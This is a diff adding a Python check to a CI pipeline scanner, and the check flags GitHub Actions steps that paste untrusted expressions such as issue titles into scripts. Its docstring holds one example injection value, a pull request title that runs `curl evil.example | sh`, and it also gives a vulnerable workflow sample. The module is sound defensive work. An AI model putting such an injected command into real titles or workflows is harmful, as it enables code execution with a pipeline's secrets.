@@ -1,0 +1,118 @@
+"""Untrusted text is pasted into a script.
+
+GitHub puts the value of `${{ ... }}` into the text of a script before the shell sees it. A pull
+request titled `a"; curl evil.example | sh; "` is then no title but a command, which runs with the
+job's token and secrets.
+
+The Ultralytics releases of December 2024 were poisoned this way: a branch name was expanded in
+a composite action under `pull_request_target`, and a miner was published to PyPI.
+"""
+
+from collections.abc import Iterable
+
+from keten.checks.pipeline import _github as gh
+from keten.checks.pipeline._expressions import expressions
+from keten.checks.pipeline._taint import Source, spelled
+from keten.model.check import Check, Example, Threat
+from keten.model.delivery import Pipeline, Step
+from keten.model.facts import View
+from keten.model.finding import Change, Severity, Violation
+
+_SINKS = {
+    "actions/github-script": ("script",),
+    "azure/cli": ("inlinescript",),
+    "azure/powershell": ("inlinescript",),
+    "appleboy/ssh-action": ("script",),
+    "addnab/docker-run-action": ("run",),
+    "nick-fields/retry": ("command", "new_command_on_retry", "on_retry_command"),
+    "nick-invision/retry": ("command", "new_command_on_retry", "on_retry_command"),
+    "jannekem/run-python-script-action": ("script",),
+    "satackey/action-js-inline": ("script",),
+    "amadevus/pwsh-script": ("script",),
+    "cardinalby/js-eval-action": ("expression",),
+    "reactivecircus/android-emulator-runner": ("script",),
+    "mikefarah/yq": ("cmd",),
+}
+
+
+def run(pipeline: Pipeline, _view: View) -> Iterable[Violation]:
+    """Follow each context that comes out of an expression in a script to who chooses it."""
+    source = Source(pipeline)
+    for job, step in gh.steps(pipeline):
+        for at, text in _scripts(step):
+            seen: set[tuple[str, ...]] = set()
+            for one in expressions(text):
+                for path in one.flows:
+                    severity = source.judge(path, job, step)
+                    if severity is None or path in seen:
+                        continue
+                    seen.add(path)
+                    name = spelled(path)
+                    variable = (
+                        "".join(c if c.isalnum() else "_" for c in path[-1]).upper() or "VALUE"
+                    )
+                    yield Violation(
+                        f"{gh.label(job, step)} pastes {name} into its script",
+                        at=at,
+                        key=f"{job.id}/{step.id or step.name}/{name}",
+                        severity=severity,
+                        change=Change(
+                            at,
+                            "${{ %s }}" % name,
+                            f"${variable}, with {variable} set in env",
+                            f"Pass untrusted values to the scripts of {pipeline.id} through env",
+                        ),
+                    )
+
+
+def _scripts(step: Step) -> Iterable[tuple[str, str]]:
+    if step.run:
+        yield f"{step.at}.run", step.run
+    elif step.uses:
+        inputs = _SINKS.get(step.uses.partition("@")[0].strip().lower(), ())
+        for name, value in step.inputs.items():
+            if name.lower() in inputs and isinstance(value, str):
+                yield f"{step.at}.with.{name}", value
+
+
+CHECK = Check(
+    title="Untrusted text is pasted into a script",
+    subject=Pipeline,
+    severity=Severity.HIGH,
+    needs=("pipeline",),
+    fix=(
+        'Hand the value over in env: and use it as a quoted shell variable ("$TITLE"), which '
+        "the shell does not parse as code."
+    ),
+    threats=(Threat.SUPPLY_CHAIN, Threat.ACTOR),
+    controls=("owasp-cicd/4", "owasp-cicd/1", "nis2/e", "pci-dss/6.2"),
+    bad=Example(
+        ".github/workflows/ci.yml",
+        """\
+on: issues
+permissions: {}
+jobs:
+  greet:
+    runs-on: ubuntu-24.04
+    steps:
+      - run: echo "New issue ${{ github.event.issue.title }}"
+""",
+    ),
+    good=Example(
+        ".github/workflows/ci.yml",
+        """\
+on: issues
+permissions: {}
+jobs:
+  greet:
+    runs-on: ubuntu-24.04
+    steps:
+      - run: echo "New issue $TITLE"
+        env:
+          TITLE: ${{ github.event.issue.title }}
+""",
+    ),
+    run=run,
+    applies=gh.github,
+    refs=("https://docs.github.com/en/actions/reference/security/secure-use",),
+)
